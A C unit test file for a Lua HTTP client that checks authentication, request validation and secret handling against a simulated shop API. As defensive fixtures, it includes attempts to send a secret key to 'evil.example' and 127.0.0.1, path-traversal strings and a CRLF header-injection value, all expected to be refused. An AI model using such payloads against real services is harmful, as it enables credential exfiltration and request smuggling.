/* lua_http_test.c - the HTTP client as carts use it, against a shop that answers from a list. */
#include "lua_bed.h"

#include <stdio.h>

#include "base/secret.h"

static struct lua_bed bed;

#define H                                                                                                    \
    "local m = ... local key = m.secret 'shop.key' "                                                         \
    "local c = m.http.client('shop', { base = 'https://shop.example/api', "
#define PLAIN H "}) "

static int start(void **state)
{
    (void)state;
    bed = (struct lua_bed){ 0 };
    return lua_bed_open(&bed) ? 0 : -1;
}

static int stop(void **state)
{
    (void)state;
    lua_bed_close(&bed);
    return 0;
}

static void assert_asked(const char *expected)
{
    assert_string_equal(bed.shop.log, expected);
}

static void an_answer_is_read_after_waiting(void **state)
{
    (void)state;
    lua_bed_answer(&bed, (struct shop_answer){ .status = 200,
                                               .body = "{\"id\":[7]}",
                                               .header = { "X-Total", "9" },
                                               .takes = 2 * CW_SECOND });
    assert_string_equal(
        lua_bed_fiber(&bed, PLAIN "local r = c:send { path = 'orders' } "
                                  "return r.status, r:header 'x-total', r:header 'none', r:json().id[1], "
                                  "r:text(), r.address, m.time.now()"),
        "200|9|nil|7|{\"id\":[7]}|GET https://shop.example:443/api/orders|2023-11-14T22:13:22Z");
    assert_asked("GET https://shop.example/api/orders\n");
}

static void a_request_is_what_the_table_says(void **state)
{
    (void)state;
    lua_bed_answer(&bed, (struct shop_answer){ .status = 201, .body = "" });
    lua_bed_fiber(
        &bed, H
        "headers = { Accept = 'text/xml', ['X-Key'] = key }, query = { z = 1, token = key }, "
        "basic = { key, '' } }) "
        "c:send { method = 'POST', path = '/orders?a=b', body = '<o/>', query = { limit = '0,10', z = true, "
        "['f[id]'] = m.decimal.new '1.50' }, headers = { accept = 'application/json' } }");
    assert_asked("POST https://shop.example/api/orders?a=b&f%5Bid%5D=1.50&limit=0%2C10&token=" BED_SECRET
                 "&z=true "
                 "accept: application/json X-Key: " BED_SECRET " auth1=" BED_SECRET ": body=<o/>\n");
}

static void bearer_and_digest_are_sent(void **state)
{
    (void)state;
    lua_bed_answer(&bed, (struct shop_answer){ .status = 200, .body = "" });
    lua_bed_fiber(&bed, H "bearer = key }) c:send {}");
    lua_bed_fiber(&bed, H "digest = { 'ann', key } }) c:send { path = '' }");
    assert_asked("GET https://shop.example/api auth2=:" BED_SECRET "\n"
                 "GET https://shop.example/api auth3=ann:" BED_SECRET "\n");
}

static void another_host_sees_no_credentials(void **state)
{
    (void)state;
    lua_bed_answer(&bed, (struct shop_answer){ .status = 200, .body = "" });
    assert_string_equal(
        lua_bed_fiber(&bed, H "basic = { key, key }, query = { k = key }, headers = { ['X-Key'] = key } }) "
                              "local a = c:send { path = 'https://other.example/x' } "
                              "local b = c:send { path = 'https://SHOP.example:443/y' } "
                              "local x, why, code = c:send { path = 'http://evil.example/' } "
                              "local y, why2, code2 = c:send { path = 'http://127.0.0.1/' } "
                              "return a.status, b.status, x, code, y, code2"),
        "200|200|nil|refused|nil|refused");
    assert_asked("GET https://other.example/x\n"
                 "GET https://SHOP.example:443/y?k=" BED_SECRET " X-Key: " BED_SECRET " auth1=" BED_SECRET
                 ":" BED_SECRET "\n");
    lua_bed_fiber(&bed, H "bearer = key }) c:send { path = 'https://other.example:443/x' } "
                          "c:send { path = 'http://shop.example:80/x' }");
    assert_null(strstr(strstr(bed.shop.log, "other.example:443"), BED_SECRET));
}

static void malformed_requests_raise_before_anything_is_sent(void **state)
{
    (void)state;
    static const char *const requests[][2] = {
        { "{ path = '../admin' }", "leaves the cart's base" },
        { "{ path = 'a/%2e%2E/b' }", "leaves the cart's base" },
        { "{ path = 'a#b' }", "%23" },
        { "{ path = 'a\\0b' }", "zero byte" },
        { "{ path = 5 }", "an integer" },
        { "{ path = 'https://ann:pw@shop.example/' }", "address" },
        { "{ method = 'get' }", "capitals" },
        { "{ method = 'GET X' }", "capitals" },
        { "{ mehtod = 'GET' }", "mehtod" },
        { "{ query = { a = 1.5 } }", "not exact" },
        { "{ query = { 'a' } }", "names and values" },
        { "{ query = { a = {} } }", "a table" },
        { "{ headers = { ['a b'] = 'x' } }", "no name of a header" },
        { "{ headers = { a = 'x\\r\\nEvil: y' } }", "control character" },
        { "{ headers = { a = 'x\\0' } }", "zero byte" },
        { "{ timeout = -1 }", "timeout" },
        { "{ timeout = 'x' }", "timeout" },
        { "{ body = {} }", "a table" },
        { "{ query = { a = m.secret 'shop.none' } }", "shop.none" },
        { "5", "table expected" },
    };
    char chunk[400];
    for (size_t i = 0; i < sizeof requests / sizeof *requests; i++) {
        snprintf(chunk, sizeof chunk, PLAIN "c:send(%s)", requests[i][0]);
        lua_bed_start(&bed, chunk);
        lua_bed_run(&bed);
        if (!bed.failed)
            fail_msg("no error for %s", requests[i][0]);
        assert_contains(bed.err.text, requests[i][1]);
    }
    assert_int_equal(bed.shop.asked, 0);
}

static void wrong_settings_are_named(void **state)
{
    (void)state;
    static const char *const settings[][2] = {
        { "{}", "base" },
        { "{ base = 'shop.example' }", "base" },
        { "{ base = 'https://ann:pw@shop.example' }", "base" },
        { "{ base = 'https://shop.example/?a=b' }", "query" },
        { "{ base = 'https://shop.example', rate = 'fast' }", "rate" },
        { "{ base = 'https://shop.example', rate = -1 }", "rate" },
        { "{ base = 'https://shop.example', basic = 'ann' }", "user, password" },
        { "{ base = 'https://shop.example', basic = { 'a', 'b' }, bearer = 'x' }", "only one" },
        { "{ base = 'https://shop.example', burst = 'x' }", "burst" },
        { "{ base = 'https://shop.example', proxy = 'x' }", "proxy" },
        { "{ base = 'https://shop.example', quota = 5 }", "quota = {" },
        { "{ base = 'https://shop.example', quota = { left = 'X-Left' } }", "needs reset" },
        { "{ base = 'https://shop.example', quota = { reset = 'X', unit = 'min' } }", "\"ms\"" },
        { "{ base = 'https://shop.example', quota = { reset = 'X', after = 1 } }", "after" },
        { "{ base = 'https://shop.example', quota = { reset = 'X', least = -1 } }", "least" },
    };
    char chunk[400];
    for (size_t i = 0; i < sizeof settings / sizeof *settings; i++) {
        snprintf(chunk, sizeof chunk, "local m = ... m.http.client('shop', %s)", settings[i][0]);
        assert_lua_error(&bed, chunk, settings[i][1]);
    }
    assert_eval(&bed,
                H "rate = '120/m', burst = 3, timeout = 5, stall = 2, connect = 1.5, attempts = 2, "
                  "body_limit = 1000 }) return c:stats().rate, c:stats().requests",
                "2.0|0");
}

static void no_answer_is_a_message_and_a_code(void **state)
{
    (void)state;
    lua_bed_answer(&bed, (struct shop_answer){ .code = CW_TIMEOUT });
    assert_contains(
        lua_bed_fiber(&bed,
                      H "attempts = 1 }) local r, why, code = c:send { path = 'x', query = { k = key } } "
                        "return r, code, why"),
        "nil|timeout|");
    assert_null(strstr(bed.result, BED_SECRET));
}

static void an_answer_that_is_a_log_in_page_is_no_list(void **state)
{
    (void)state;
    cw_secret_remember(cw_slice(BED_SECRET));
    static const char *const bodies[] = { "<!DOCTYPE html>\n<html>log in</html>",
                                          "<html>\n<body/></html>",
                                          "",
                                          "null",
                                          "{\"error\":{\"code\":401}}",
                                          "[{\"id\":1},{\"id\":",
                                          "Key " BED_SECRET " is wrong" };
    for (size_t i = 0; i < sizeof bodies / sizeof *bodies; i++) {
        bed.shop.answer_count = bed.shop.asked = 0;
        lua_bed_answer(&bed, (struct shop_answer){ .status = 200, .body = bodies[i] });
        lua_bed_fiber(&bed, H "query = { k = key } }) local r = c:send { path = 'orders' } "
                              "local ok, e = pcall(r.records, r, 'orders') return ok, e.code, e.message");
        assert_contains(bed.result, "false|invalid|GET https://shop.example:443/api/orders answered 200: ");
        assert_null(strstr(bed.result, BED_SECRET));
    }
}

static void several_at_once_keep_their_order(void **state)
{
    (void)state;
    lua_bed_answer(&bed, (struct shop_answer){ .status = 200, .body = "first", .takes = 9 * CW_SECOND });
    lua_bed_answer(&bed, (struct shop_answer){ .code = CW_IO, .takes = CW_SECOND });
    lua_bed_answer(&bed, (struct shop_answer){ .status = 404, .body = "third", .takes = 2 * CW_SECOND });
    assert_contains(
        lua_bed_fiber(
            &bed,
            H "attempts = 1 }) local started = m.time.now() "
              "local r, why = c:all { { path = 'a' }, { path = 'b' }, { path = 'http://evil.example/' }, "
              "{ path = 'c' } } "
              "return r[1]:text(), r[2], r[3], r[4].status, m.time.now() - started, why[1], why[4], why[2], "
              "why[3]"),
        "first|nil|nil|404|9|nil|nil|");
    assert_contains(bed.result, "evil.example");
    assert_string_equal(lua_bed_fiber(&bed, PLAIN "local r, why = c:all {} return #r, next(why)"), "0|nil");
    assert_string_equal(lua_bed_fiber(&bed, PLAIN "local ok = pcall(c.all, c, { 5 }) return ok"), "false");
}

static void waiting_is_refused_where_it_is_impossible(void **state)
{
    (void)state;
    assert_lua_error(&bed, PLAIN "c:send {}", "wait");
    assert_lua_error(&bed, PLAIN "c:all {}", "wait");
    assert_int_equal(bed.shop.asked, 0);
}

static void a_killed_fiber_takes_its_requests_along(void **state)
{
    (void)state;
    lua_bed_answer(&bed, (struct shop_answer){ .hangs = true });
    struct cw_fiber *one = lua_bed_start(&bed, PLAIN "c:send { path = 'a' } print 'woke'");
    struct cw_fiber *many =
        lua_bed_start(&bed, PLAIN "c:all { { path = 'b' }, { path = 'c' } } print 'woke'");
    cw_script_run(bed.script);
    for (int i = 0; i < 10 && bed.shop.running < 3; i++)
        lua_bed_run(&bed);
    assert_int_equal(bed.shop.running, 3);
    cw_fiber_kill(one);
    assert_int_equal(bed.shop.running, 2);
    cw_fiber_kill(many);
    assert_int_equal(bed.shop.running, 0);
    lua_bed_run(&bed);
    assert_string_equal(bed.printed, "");
}

static void closing_a_state_with_running_requests_is_fine(void **state)
{
    (void)state;
    lua_bed_answer(&bed, (struct shop_answer){ .hangs = true });
    lua_bed_start(&bed, PLAIN "c:send { path = 'a' }");
    lua_bed_run(&bed);
    assert_int_equal(bed.shop.running, 1); /* lua_bed_close asserts that none is left */
}

static int close_kept(lua_State *L)
{
    lua_getfield(L, LUA_REGISTRYINDEX, "client");
    lua_getfield(L, -1, "close");
    lua_insert(L, -2);
    lua_call(L, 1, 0);
    return 0;
}

static int keep(lua_State *L)
{
    lua_settop(L, 1);
    lua_setfield(L, LUA_REGISTRYINDEX, "client");
    return 0;
}

static int open_keep(lua_State *L)
{
    lua_pushcfunction(L, keep);
    return 1;
}

static void a_client_closed_while_waited_for_answers_cancelled(void **state)
{
    (void)state;
    lua_bed_answer(&bed, (struct shop_answer){ .hangs = true });
    assert_ok(cw_script_provide(bed.script, "cartwright.keep", open_keep, NULL, &bed.err), bed.err);
    lua_bed_start(
        &bed,
        PLAIN "require 'cartwright.keep'(c) local r, why, code = c:send { path = 'a' } return r, code, why");
    lua_bed_run(&bed);
    assert_false(bed.ended);
    assert_ok(cw_script_call(bed.script, close_kept, NULL, &bed.err), bed.err);
    assert_int_equal(bed.shop.running, 0);
    lua_bed_run(&bed);
    assert_string_equal(bed.result, "nil|cancelled|the HTTP client was closed");
}

static void a_dry_run_refuses_what_writes(void **state)
{
    (void)state;
    bed.host.read_only = true;
    lua_bed_answer(&bed, (struct shop_answer){ .status = 200, .body = "" });
    assert_string_equal(lua_bed_fiber(&bed, PLAIN
                                      "local a = c:send {} local b, why, code = c:send { method = 'PUT' } "
                                      "return a.status, b, code"),
                        "200|nil|refused");
    assert_int_equal(bed.shop.asked, 1);
}

/* T-H13: whatever a script does with the handle, the text comes out nowhere but in the request. */
static void the_canary_leaves_only_in_the_request(void **state)
{
    (void)state;
    cw_secret_remember(cw_slice(BED_SECRET));
    lua_bed_answer(&bed, (struct shop_answer){ .status = 401, .body = "no" });
    lua_bed_fiber(
        &bed, H "basic = { key, key }, query = { k = key }, headers = { H = key } }) "
                "local out = {} "
                "local function note(...) for i = 1, select('#', ...) do "
                "out[#out + 1] = tostring((select(i, ...))) end end "
                "local r = c:send { path = 'orders', query = { x = key } } "
                "note(r.address, r.status, r:text(), r:header 'H') "
                "note(pcall(r.records, r, 'orders')) "
                "note(c:send { path = 'http://evil.example/', query = { x = key } }) "
                "note(pcall(c.send, c, { path = '../' , headers = { a = key } })) "
                "note(pcall(m.http.client, 'x', { base = 'https://h/', headers = { a = key }, rate = 'x' })) "
                "for name, value in pairs(c:stats()) do note(name, value) end "
                "note(key, tostring(key), pcall(string.format, '%d', key)) "
                "print(table.concat(out, ' ')) return table.concat(out, ' ')");
    assert_null(strstr(bed.result, BED_SECRET));
    assert_null(strstr(bed.printed, BED_SECRET));
    assert_contains(bed.result, "secret(shop.key)");
    assert_contains(bed.shop.log, "k=" BED_SECRET "&x=" BED_SECRET " H: " BED_SECRET " auth1=" BED_SECRET);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(an_answer_is_read_after_waiting, start, stop),
        cmocka_unit_test_setup_teardown(a_request_is_what_the_table_says, start, stop),
        cmocka_unit_test_setup_teardown(bearer_and_digest_are_sent, start, stop),
        cmocka_unit_test_setup_teardown(another_host_sees_no_credentials, start, stop),
        cmocka_unit_test_setup_teardown(malformed_requests_raise_before_anything_is_sent, start, stop),
        cmocka_unit_test_setup_teardown(wrong_settings_are_named, start, stop),
        cmocka_unit_test_setup_teardown(no_answer_is_a_message_and_a_code, start, stop),
        cmocka_unit_test_setup_teardown(an_answer_that_is_a_log_in_page_is_no_list, start, stop),
        cmocka_unit_test_setup_teardown(several_at_once_keep_their_order, start, stop),
        cmocka_unit_test_setup_teardown(waiting_is_refused_where_it_is_impossible, start, stop),
        cmocka_unit_test_setup_teardown(a_killed_fiber_takes_its_requests_along, start, stop),
        cmocka_unit_test_setup_teardown(closing_a_state_with_running_requests_is_fine, start, stop),
        cmocka_unit_test_setup_teardown(a_client_closed_while_waited_for_answers_cancelled, start, stop),
        cmocka_unit_test_setup_teardown(a_dry_run_refuses_what_writes, start, stop),
        cmocka_unit_test_setup_teardown(the_canary_leaves_only_in_the_request, start, stop),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
